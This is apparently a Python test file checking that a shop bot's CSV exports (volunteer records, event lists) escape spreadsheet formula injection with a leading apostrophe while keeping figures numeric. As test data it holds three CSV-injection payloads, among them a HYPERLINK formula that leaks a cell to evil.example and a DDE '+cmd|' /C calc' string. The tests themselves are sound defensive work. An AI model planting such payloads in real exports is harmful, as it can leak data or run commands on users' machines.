"""Every CSV the shop writes opens in a spreadsheet without running what a member typed: a text
cell starting like a formula (=, +, -, @, tab, CR) begins with an apostrophe; figures stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

from sqlalchemy import update

from bot.exports import volunteer_record
from bot.telegram import callbacks
from store import csvsafe, orders, roles, settlement
from store.models import Agency, Branch, Member, Role
from tests.shop import open_shop
from tests.test_story_events import _trip

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
BRANCH = "+cmd|' /C calc'!A0"
AGENCY = "@SUM(1+1)*cmd"


def test_text_cells_that_start_a_formula_get_an_apostrophe_and_numbers_stay_numbers():
    out = io.StringIO()
    writer = csvsafe.writer(out)
    texts = ["=1+1", "+86 138", "-2+3", "@A1", "\tcmd", "\rcmd", "平常人", "", "a=b", "'quoted"]
    writer.writerow(texts)
    writer.writerow([-68, 0, 3.5, csvsafe.yuan(-1250), csvsafe.yuan(12_800), csvsafe.yuan(5), None])
    text_row, number_row = csv.reader(io.StringIO(out.getvalue()))
    assert text_row == [
        "'=1+1",
        "'+86 138",
        "'-2+3",
        "'@A1",
        "'\tcmd",
        "'\rcmd",
        "平常人",
        "",
        "a=b",
        "'quoted",
    ]
    assert number_row == ["-68", "0", "3.5", "-12.50", "128.00", "0.05", ""]
    assert csvsafe.yuan(-1250) == Decimal("-12.50")


async def test_the_volunteer_record_runs_no_formula_from_names_and_keeps_figures(db, tmp_path):
    shop = await open_shop(db)
    alice = shop.members[0]
    async with db.begin() as session:
        await session.execute(update(Member).where(Member.id == alice).values(display_name=LINK))
        await session.execute(update(Branch).where(Branch.id == shop.branch_id).values(name=BRANCH))
        await session.execute(update(Agency).where(Agency.id == shop.agency_id).values(name=AGENCY))
    # Paid on 28 November (Shanghai), refunded on the 29th: in the record of the 29th alone the
    # member has only the reversal, -68 points and -1 match.
    paid_on = datetime(2026, 11, 28, 2, 0, tzinfo=UTC)
    refunded_on = datetime(2026, 11, 29, 2, 0, tzinfo=UTC)
    async with db.begin() as session:
        order = await orders.place(
            session, member_id=alice, product_id=shop.charity_product_id, quantity=1, key="a1", now=paid_on
        )
        await settlement.pay(session, order_id=order.id, amount=order.total_fen, currency="CNY", now=paid_on)
    async with db.begin() as session:
        await orders.cancel(session, order_id=order.id, member_id=alice, now=refunded_on)
        await orders.refund(session, order_id=order.id, admin_id=shop.admin, now=refunded_on)

    written = await volunteer_record(
        db, first=date(2026, 11, 29), last=date(2026, 11, 29), timezone="Asia/Shanghai", out=tmp_path
    )
    (members_csv, _, _), (branches_csv, _, _) = written
    with members_csv.open(encoding="utf-8-sig", newline="") as file:
        header, *members = list(csv.reader(file))
    assert members == [
        [str(alice), "100", "'" + LINK, "'" + BRANCH, "'" + AGENCY, "0", "0.00", "-68", "-1", "0"]
    ]
    with branches_csv.open(encoding="utf-8-sig", newline="") as file:
        header, *branches = list(csv.reader(file))
    assert branches == [
        [str(shop.branch_id), "'" + BRANCH, "'" + AGENCY, "3", "0", "0.0%", "0", "0.00", "-68"]
    ]


async def test_the_event_list_runs_no_formula_from_a_branch_an_agency_or_a_phone(tg):
    async with tg.db.begin() as session:
        await roles.grant(session, telegram_user_id=903, role=Role.organiser)
    organiser = tg.member("organiser", user_id=903)
    event_id = await _trip(tg, organiser_tg=903, capacity=10)
    member = tg.member(LINK, user_id=555)
    await member.send("/start")
    async with tg.db.begin() as session:
        agency = Agency(name=AGENCY)
        session.add(agency)
        await session.flush()
        branch = Branch(agency_id=agency.id, name=BRANCH)
        session.add(branch)
        await session.flush()
        await session.execute(
            update(Member)
            .where(Member.telegram_user_id == 555)
            .values(branch_id=branch.id, contact_phone="+8613800138000")
        )
    await member.tap_data(callbacks.make("ev-join", event_id))

    await organiser.send("/events")
    await organiser.tap("进巫溪县")
    await organiser.tap("导出名单")
    document = organiser.messages()[-1]["document"]
    data = tg.emulator._files[document["file_id"]]["data"].decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(data))
    assert (row["name"], row["branch"], row["agency"], row["phone"]) == (
        "'" + LINK,
        "'" + BRANCH,
        "'" + AGENCY,
        "'+8613800138000",
    )
    assert (row["position"], row["telegram_user_id"]) == ("1", "555")


def test_no_export_writes_csv_around_the_one_writer():
    root = Path(__file__).parent.parent
    writers = [
        path.relative_to(root).as_posix()
        for folder in ("bot", "handlers", "jobs", "store")
        for path in (root / folder).rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8")
        or "DictWriter" in path.read_text(encoding="utf-8")
    ]
    assert writers == ["store/csvsafe.py"]
